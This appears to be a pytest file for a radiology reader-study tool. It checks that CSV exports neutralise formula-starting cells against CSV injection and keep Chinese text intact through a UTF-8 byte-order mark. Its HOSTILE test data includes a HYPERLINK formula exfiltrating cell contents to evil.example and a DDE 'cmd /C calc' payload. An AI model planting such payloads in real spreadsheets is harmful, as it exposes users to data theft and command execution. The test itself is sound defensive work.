"""Every CSV RadVal writes opens in Excel as text: no cell starts a formula (issue 17, item 10).

OWASP's CSV-injection rule: a cell starting with = + - @, a tab or a carriage return is
prefixed with a single quote. Numbers RadVal computes (a negative agreement, say) stay
numbers; an explanation "- reason" still reads as the rater wrote it, after the quote.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from reader_study_data import build_scored_study

from radval_desktop import csv_cells
from radval_desktop.evaluation.tables import Table
from radval_desktop.store.reader_study import Answer, open_study, save_answer, save_rater
from radval_desktop.store.scores_export import export_scores

REPO = Path(__file__).resolve().parents[2]
# What Excel, LibreOffice and Google Sheets start a formula (or a DDE call) with; the
# full-width forms are what a Chinese or Japanese input method types.
STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1")


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_scores_export_neutralises_every_cell_that_starts_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "study.db"
    study = build_scored_study(path)
    db = open_study(path)
    candidate = db.execute("SELECT uuid FROM candidates ORDER BY uuid").fetchone()[0]
    db.execute("UPDATE candidates SET model_name = ? WHERE uuid = ?", [HOSTILE[1], candidate])
    db.execute("UPDATE cases SET institution = ?", [HOSTILE[3]])
    db.conn.commit()
    rater = save_rater(db, HOSTILE[0], "senior")
    save_answer(db, study.uuid, rater.uuid, candidate,
                Answer("understandability", na=True, quotes=(HOSTILE[2],),
                       explanation="- the impression is cut off\n- no side given"))
    save_answer(db, study.uuid, rater.uuid, candidate,
                Answer("coherence", 40, explanation=HOSTILE[4]))
    out = tmp_path / "answers.csv"
    assert export_scores(db, out) == 3 * 6 * 7 + 2
    db.close()
    header, *rows = _cells(out)
    text_cells = [cell for row in rows for cell in row]
    assert not [c for c in text_cells if c.startswith(STARTS_A_FORMULA)]
    by = [dict(zip(header, row, strict=True)) for row in rows]
    mine = [r for r in by if r["rater"] == "'" + HOSTILE[0]]
    assert len(mine) == 2
    na = next(r for r in mine if r["metric"] == "understandability")
    # The rater's own words, one reason a line, behind one quote that Excel shows as text.
    assert na["explanation"] == "'- the impression is cut off\n- no side given"
    assert na["quotes"] == '["-2+3"]'  # a JSON list starts with "[": nothing to neutralise
    assert next(r for r in mine if r["metric"] == "coherence")["explanation"] == "'\t=1+1"
    assert {r["institution"] for r in by} == {"'" + HOSTILE[3]}
    assert "'" + HOSTILE[1] in {r["model"] for r in by}
    assert {r["score"] for r in by if r["score"]} <= {str(n) for n in range(101)}


def test_report_tables_neutralise_text_and_keep_numbers() -> None:
    table = Table("t", "t", ("model", "value", "n", "note"),
                  tuple((name, -0.25, -3, "ok") for name in HOSTILE))
    rows = list(csv.reader(io.StringIO(table.to_csv(), newline="")))[1:]
    assert [r[0] for r in rows] == ["'" + name for name in HOSTILE]
    assert {(r[1], r[2], r[3]) for r in rows} == {("-0.250000", "-3", "ok")}


def test_a_neutralised_cell_reads_back_as_written() -> None:
    for text in (*HOSTILE, "- reason", "右肺上叶结节", "", "plain"):
        cell = csv_cells.neutralise(text)
        assert not cell.startswith(STARTS_A_FORMULA)
        assert csv_cells.original(cell) == text


def test_no_module_writes_csv_but_through_csv_cells() -> None:
    # A new export added later must not bring formulas back: only csv_cells calls csv.writer.
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(")
    writers = sorted(str(p.relative_to(REPO)) for root in ("radval_desktop", "training")
                     for p in (REPO / root).rglob("*.py")
                     if pattern.search(p.read_text(encoding="utf-8")))
    # study/results.py writes Table.to_csv, which goes through csv_cells.
    assert writers == ["radval_desktop/csv_cells.py", "radval_desktop/study/results.py"]


def test_every_csv_radval_writes_opens_in_excel_with_chinese_intact(tmp_path: Path) -> None:
    # Excel takes a CSV without a byte-order mark for the system's ANSI code page (GBK on a
    # Chinese Windows): 北京协和 would open as mojibake. Each file starts with the UTF-8 BOM.
    from radval_desktop.study.results import write_report

    path = tmp_path / "study.db"
    build_scored_study(path)
    db = open_study(path)
    db.execute("UPDATE candidates SET model_name = '模型甲' WHERE model_name = "
               "(SELECT MIN(model_name) FROM candidates)")
    db.execute("UPDATE cases SET institution = '北京协和'")
    db.conn.commit()
    written = write_report(db, tmp_path / "report", "研究报告")
    export_scores(db, tmp_path / "answers.csv")
    db.close()
    csvs = [p for p in written.files if p.suffix == ".csv"] + [tmp_path / "answers.csv"]
    assert len(csvs) >= 4
    texts = {}
    for csv_path in csvs:
        data = csv_path.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf"), csv_path.name
        assert not data[3:].startswith(b"\xef\xbb\xbf"), csv_path.name  # one mark, not two
        texts[csv_path.name] = data.decode("utf-8-sig")
    # The Chinese names are in the files as written, and a reader that honours the mark
    # (Excel, LibreOffice, Python's utf-8-sig) sees the header's first name unchanged.
    assert any("模型甲" in text for name, text in texts.items() if name != "answers.csv")
    assert "模型甲" in texts["answers.csv"]
    assert "北京协和" in texts["answers.csv"]
    for csv_path in csvs:
        header = _cells(csv_path)[0]
        assert header[0], csv_path.name
        assert not header[0].startswith("\ufeff"), csv_path.name
